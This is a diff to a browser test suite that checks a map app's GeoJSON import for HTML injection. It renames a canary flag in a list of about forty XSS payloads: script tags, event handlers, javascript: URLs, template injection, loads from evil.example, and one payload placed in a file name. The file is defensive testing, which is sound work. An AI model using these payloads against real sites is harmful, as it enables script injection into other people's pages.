@@ -17,48 +17,48 @@ type Twin = {
   };
 };
 
-/** Each vector sets window.__pwned or asks evil.example for something if it ever becomes markup or code. */
+/** Each vector sets window.sddiPwned or asks evil.example for something if it ever becomes markup or code. */
 const VECTORS = [
-  '<script>window.__pwned=1</script>',
-  '<img src="http://evil.example/i.png" onerror="window.__pwned=1">',
-  '<svg onload="window.__pwned=1">',
-  '<iframe src="javascript:window.__pwned=1"></iframe>',
-  '"><script>window.__pwned=1</script>',
-  "'><img src=x onerror=window.__pwned=1>",
+  '<script>window.sddiPwned=1</script>',
+  '<img src="http://evil.example/i.png" onerror="window.sddiPwned=1">',
+  '<svg onload="window.sddiPwned=1">',
+  '<iframe src="javascript:window.sddiPwned=1"></iframe>',
+  '"><script>window.sddiPwned=1</script>',
+  "'><img src=x onerror=window.sddiPwned=1>",
   '<style>body{background:rgb(255,0,0)!important}</style>',
   '<link rel="stylesheet" href="http://evil.example/x.css">',
-  '<a href="javascript:window.__pwned=1">x</a>',
+  '<a href="javascript:window.sddiPwned=1">x</a>',
   '<div style="position:fixed;inset:0;background:red" id="injected">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
-  '<details open ontoggle="window.__pwned=1">',
-  '<body onload="window.__pwned=1">',
-  '<input autofocus onfocus="window.__pwned=1">',
-  '<video><source onerror="window.__pwned=1">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.sddiPwned=1>',
+  '<details open ontoggle="window.sddiPwned=1">',
+  '<body onload="window.sddiPwned=1">',
+  '<input autofocus onfocus="window.sddiPwned=1">',
+  '<video><source onerror="window.sddiPwned=1">',
   '<object data="http://evil.example/o"></object>',
   '<embed src="http://evil.example/e">',
   '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
   '<base href="http://evil.example/">',
   '<form action="http://evil.example/"><button>x</button></form>',
-  '{{constructor.constructor("window.__pwned=1")()}}',
-  '${window.__pwned=1}',
-  '<img src=x:alert(1) onerror=eval("window.__pwned=1")>',
-  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
-  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
-  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
-  '<template><script>window.__pwned=1</script></template>',
-  '<marquee onstart="window.__pwned=1">',
-  '<audio src=x onerror="window.__pwned=1">',
-  '<svg><animate onbegin="window.__pwned=1" attributeName=x dur=1s>',
-  '<isindex type=image src=1 onerror=window.__pwned=1>',
+  '{{constructor.constructor("window.sddiPwned=1")()}}',
+  '${window.sddiPwned=1}',
+  '<img src=x:alert(1) onerror=eval("window.sddiPwned=1")>',
+  '<scr<script>ipt>window.sddiPwned=1</scr</script>ipt>',
+  '&lt;script&gt;window.sddiPwned=1&lt;/script&gt;',
+  '<noscript><p title="</noscript><img src=x onerror=window.sddiPwned=1>">',
+  '<template><script>window.sddiPwned=1</script></template>',
+  '<marquee onstart="window.sddiPwned=1">',
+  '<audio src=x onerror="window.sddiPwned=1">',
+  '<svg><animate onbegin="window.sddiPwned=1" attributeName=x dur=1s>',
+  '<isindex type=image src=1 onerror=window.sddiPwned=1>',
   '<img srcset="http://evil.example/s.png 1x">',
   '<picture><source srcset="http://evil.example/p.png"><img></picture>',
-  'javascript:window.__pwned=1',
-  'data:text/html,<script>window.__pwned=1</script>',
-  '\u202e<script>window.__pwned=1</script>',
+  'javascript:window.sddiPwned=1',
+  'data:text/html,<script>window.sddiPwned=1</script>',
+  '\u202e<script>window.sddiPwned=1</script>',
   '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
-  '<img """><script>window.__pwned=1</script>">',
-  '<svg><script href="data:,window.__pwned=1"/></svg>',
-  '<xmp><script>window.__pwned=1</script></xmp>',
+  '<img """><script>window.sddiPwned=1</script>">',
+  '<svg><script href="data:,window.sddiPwned=1"/></svg>',
+  '<xmp><script>window.sddiPwned=1</script></xmp>',
 ];
 
 const at = (i: number): string => `${VECTORS[i % VECTORS.length]} #${i}`;
@@ -81,7 +81,7 @@ describe('HTML injection', () => {
       properties: { [at(i)]: at(i + 1), name: at(i + 2) },
     }));
     used += 80;
-    const fileName = `<img src=x onerror=window.__pwned=1>.geojson`;
+    const fileName = `<img src=x onerror=window.sddiPwned=1>.geojson`;
     used += 1;
     await s.page.setInputFiles('[data-testid="import-input"]', { name: fileName, mimeType: 'application/geo+json', buffer: Buffer.from(JSON.stringify({ type: 'FeatureCollection', features })) });
     await s.page.locator('dialog.import-dialog').waitFor({ state: 'visible' });
@@ -112,7 +112,7 @@ describe('HTML injection', () => {
 
     const probe = () =>
       s.page.evaluate(() => ({
-        pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0,
+        pwned: (window as unknown as { sddiPwned?: number }).sddiPwned ?? 0,
         injectedElements: document.querySelectorAll('#ui script, #ui img, #ui iframe, #ui svg, #ui style, #ui link, #ui object, #ui embed, #ui meta, #ui base, #ui form, #ui video, #ui audio, #ui marquee, #ui math, #injected').length,
         background: getComputedStyle(document.body).backgroundColor,
       }));
